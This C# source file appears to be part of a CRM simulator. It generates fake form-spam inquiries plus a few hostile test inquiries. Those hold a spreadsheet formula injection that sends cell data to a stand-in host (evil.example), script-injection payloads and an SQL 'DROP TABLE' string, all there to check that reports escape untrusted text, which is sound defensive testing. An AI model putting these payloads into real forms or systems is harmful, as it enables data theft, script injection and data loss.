using P = TradeCrm.Simulator.CompanyParameters;

namespace TradeCrm.Simulator;

/// <summary>What the form also brings: offers of services, suppliers, tests, and text that would be code if somebody trusted it.</summary>
internal static class Spam
{
    private static readonly (string Name, string Company, string Subject, string Body)[] Offers =
    [
        ("Kevin Rank", "TopRank SEO", "Rank #1 on Google",
            "Hi, we offer SEO services and quality backlinks for your website. First page of Google guaranteed. Interested?"),
        ("Lily Zhang", "Hebei Best Film Factory", "Supplier of stretch film",
            "Dear purchasing manager, we are a manufacturer of stretch film and packaging materials in China. We can offer you good price, welcome to visit our factory."),
        ("Mark Loans", "QuickFund", "Business loan approved", "Your business loan of $500,000 is approved, reply now with your bank details."),
        ("Sophie Guest", "Content Hub", "Guest post",
            "We would like to publish a sponsored guest post with a dofollow link on your website. What is your price?"),
        ("Dev Team", "AppWorks", "Website redesign",
            "We are a web design and mobile app development company. We noticed errors on your website. Can we send you a quote?"),
        ("Tom", "LeadList", "B2B email list", "Buy verified email lists of importers worldwide, 2 million contacts, 50 % discount today."),
        ("王先生", "宁波某货运代理", "海运优惠", "您好，我们是货运代理公司，提供宁波到全球的海运服务，价格优惠，欢迎合作。"),
        ("test", "test", "test", "test test 123"),
    ];

    public static void Fill(World world)
    {
        for (var index = 0; index < world.Scaled(P.SpamInquiries); index++)
            Send(world, index);
        Hostile(world);
    }

    private static void Send(World world, int index)
    {
        var stream = world.Stream("spam", index);
        var (name, company, subject, body) = stream.Pick(Offers);
        var at = Clock.Start.AddDays(Clock.GrowingDay(stream)).AddSeconds(stream.Next(86_000));
        var browser = new Browser(world.NewAddress(stream.Pick([45, 185, 193, 91])), Agents.Desktop(stream, at));
        world.Hits.Add(new(at, browser, "GET", "/inquiry.html", "-", 200, 6_410, Machine: "form spam"));
        world.Hits.Add(new(at.AddSeconds(2), browser, "POST", "/inquiry", Site.Origin + "/inquiry.html", 303, 0, Machine: "form spam"));
        var receivedAt = at.AddSeconds(3 + stream.Next(6));
        var email = company == "test" ? "test@haina-trading.example"
            : $"{Text.Slug(name, "")}{index}@{(Text.Slug(company).Length > 3 ? Text.Slug(company) : "freight")}.example";
        world.Inquiries.Add(new()
        {
            ReceivedAt = receivedAt,
            Channel = "website",
            Email = email,
            Name = name,
            Company = company,
            Subject = subject,
            Body = body,
            Page = "/inquiry.html",
            Owner = stream.Chance(500) ? stream.Pick(Staff.All.Where(person => person.WorksAt(receivedAt)).ToList()) : null,
        });
    }

    // Untrusted text must arrive in the reports as text.
    private static void Hostile(World world)
    {
        Add(new(2026, 8, 12, 11, 3, 44), "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "Formula Imports Ltd", "Price list",
            "Please send price for HK-102, 2000 pcs, CIF Felixstowe.");
        Add(new(2026, 9, 3, 15, 41, 9), "Bobby <script>alert(1)</script>", "<b>Tables</b> & Sons", "RFQ HG-103",
            "We need 300 pcs of HG-103. Port: Durban.\n</td><img src=x onerror=alert(2)>");
        Add(new(2026, 9, 21, 9, 12, 30), "O'Neil, \"Ned\"; DROP TABLE customers;--", "Comma, Quote & \"Sons\"", "Inquiry, urgent",
            "1,000 pcs \"HT-101\", please quote.");

        void Add(DateTime at, string name, string company, string subject, string body) => world.Inquiries.Add(new()
        {
            ReceivedAt = at,
            Channel = "email",
            Email = $"buyer{at:MMdd}@hostile-text.example",
            Name = name,
            Company = company,
            Subject = subject,
            Body = body,
            Sku = "HK-102",
            Owner = Staff.All[0],
        });
    }
}
